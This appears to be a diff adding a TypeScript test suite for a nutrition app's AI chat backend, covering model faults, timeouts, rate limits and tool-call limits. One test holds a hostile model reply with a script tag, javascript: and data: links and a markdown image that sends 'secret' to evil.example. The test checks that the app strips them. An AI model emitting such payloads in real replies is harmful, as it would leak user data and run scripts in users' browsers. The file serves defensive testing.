@@ -1,0 +1,103 @@
+import { ERRORS } from '@labelwise/contracts/errors';
+import { describe, expect, it } from 'vitest';
+
+import type { ModelFault } from '../../../adapters/ai-model/testing/model-stand-in.ts';
+
+import { MODEL_FAULTS, startModelStandIn } from '../../../adapters/ai-model/testing/model-stand-in.ts';
+import { createTestApp, startTestApp } from '../../../testing/test-app.ts';
+import { ask, begin, eventsOf, messagesOf, premiumMember, startWithModel, stream } from './testing/chatting.ts';
+
+const CLOSED_PORT = 'http://127.0.0.1:9/v1';
+/** These only end by our own time limits. */
+const SILENT: readonly ModelFault[] = ['hang', 'drip'];
+const HALF: readonly ModelFault[] = ['reset mid-stream', 'truncated stream', 'stream without an end', 'stream that stands still'];
+
+describe('a model that misbehaves', () => {
+  it.concurrent.each(MODEL_FAULTS.filter((fault) => fault !== 'endless stream'))('%s: the sentence of the specification within 30 seconds, and a transcript that says so', { timeout: 60_000 }, async (fault) => {
+    // Made and ended here: these run side by side.
+    const model = await startModelStandIn();
+    const test = await createTestApp('sqlite', { env: { AI_BASE_URL: model.url } });
+    const ana = await premiumMember(test, 'ana');
+    const id = await begin(ana);
+    model.misbehave(fault);
+    const start = performance.now();
+    const answer = ask(ana, id, 'What has fiber?');
+    // Others are served meanwhile.
+    if (SILENT.includes(fault)) for (let turn = 0; turn < 20; turn += 1) expect((await ana.as('GET', '/api/ai/conversations')).status).toBe(200);
+    const { status, json } = await answer;
+    expect(performance.now() - start).toBeLessThan(30_000);
+    expect([status, json]).toEqual([502, { error: ERRORS.assistant_failed.message, code: 'assistant_failed' }]);
+    expect((await messagesOf(ana, id)).at(-1)).toMatchObject({ status: 'failed', content: HALF.includes(fault) ? 'Oats are ' : ERRORS.assistant_failed.message });
+    expect(test.logs()).not.toContain('What has fiber?');
+    expect(model.calls).toHaveLength(1);
+    await model.close();
+    await test.close();
+  });
+
+  it('an endpoint that is not there is a failure like any other', async () => {
+    const test = await startTestApp('sqlite', { env: { AI_BASE_URL: CLOSED_PORT } });
+    const ana = await premiumMember(test, 'ana');
+    expect((await ask(ana, await begin(ana), 'Hello')).json.code).toBe('assistant_failed');
+  });
+
+  it('a reply without end is cut where replies end', async () => {
+    const { test, model } = await startWithModel('sqlite');
+    const ana = await premiumMember(test, 'ana');
+    model.misbehave('endless stream');
+    const { json } = await ask(ana, await begin(ana), 'Hello');
+    expect(json.response.length).toBeGreaterThan(12_000);
+    expect(json.response.length).toBeLessThan(14_000);
+  });
+
+  it('after five failures in a row the endpoint is left alone for a while', async () => {
+    const { test, model } = await startWithModel('sqlite');
+    const ana = await premiumMember(test, 'ana');
+    model.misbehave('html');
+    const ids = await Promise.all([1, 2, 3, 4, 5, 6, 7].map(() => begin(ana)));
+    for (const id of ids) expect((await ask(ana, id, 'Hello')).status).toBe(502);
+    expect(model.calls).toHaveLength(5);
+  });
+
+  it('what it calls in vain or without end stops after six rounds, and nothing it invents is run', async () => {
+    const { test, model } = await startWithModel('sqlite');
+    const ana = await premiumMember(test, 'ana');
+    model.script((_call, round) => (round === 0
+      ? { calls: [{ name: 'delete_account', arguments: { userId: ana.id } }, { name: 'product', arguments: '{"barcode": "no' }, { name: 'search_products', arguments: { text: 7 } }] }
+      : { calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] }));
+    expect((await ask(ana, await begin(ana), 'What should I eat?')).status).toBe(502);
+    expect(model.calls).toHaveLength(6);
+    expect(model.calls.at(-1)?.toolChoice).toBe('none');
+    model.script((_call, round) => (round < 2 ? { calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] } : { text: ['You have ', 'no scans.'] }));
+    expect((await ask(ana, await begin(ana), 'What did I scan?')).json.response).toBe('You have no scans.');
+    expect((await ana.as('GET', '/api/auth/user')).status).toBe(200);
+  });
+
+  it('thoughts that a model speaks aloud are no part of the reply', async () => {
+    const { test, model } = await startWithModel('sqlite');
+    const ana = await premiumMember(test, 'ana');
+    model.script(() => ({ text: ['<thi', 'nk>secret plan</th', 'ink>', 'Oats.'] }));
+    expect((await ask(ana, await begin(ana), 'Hello')).json.response.trim()).toBe('Oats.');
+  });
+
+  it('pictures, raw HTML and scripts in a reply are gone before anybody sees or stores them', async () => {
+    const { test, model } = await startWithModel('sqlite');
+    const ana = await premiumMember(test, 'ana');
+    const id = await begin(ana);
+    const nasty = `<script>alert(1)</script>![x](https://evil.example/?d=secret) [a](javascript:alert(1)) [b](data:text/html,x) ${Array.from({ length: 1000 }, (_, at) => `[^${at}]`).join('')}`;
+    model.script(() => ({ text: nasty.match(/[^]{1,7}/gu) ?? [] }));
+    const events = await eventsOf(stream(test, ana, id, 'Hello'));
+    const shown = events.filter(({ event }) => event === 'delta').map(({ data }) => data.text).join('');
+    expect(shown).toMatch(/^alert\(1\)x \[a\]\(\) \[b\]\(\) /u);
+    expect(shown).not.toMatch(/evil|javascript|data:|<script|\[\^/u);
+    expect((await messagesOf(ana, id)).at(-1)?.content).toBe(shown);
+  });
+
+  it('more than thirty questions a minute from one address are too many', async () => {
+    const { test } = await startWithModel('sqlite');
+    const ana = await premiumMember(test, 'ana');
+    for (let turn = 0; turn < 30; turn += 1) expect((await ask(ana, 'nothing-here', 'Hello')).status).toBe(404);
+    const refused = await ask(ana, 'nothing-here', 'Hello');
+    expect([refused.status, refused.json.code]).toEqual([429, 'too_many_requests']);
+    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
+  });
+});
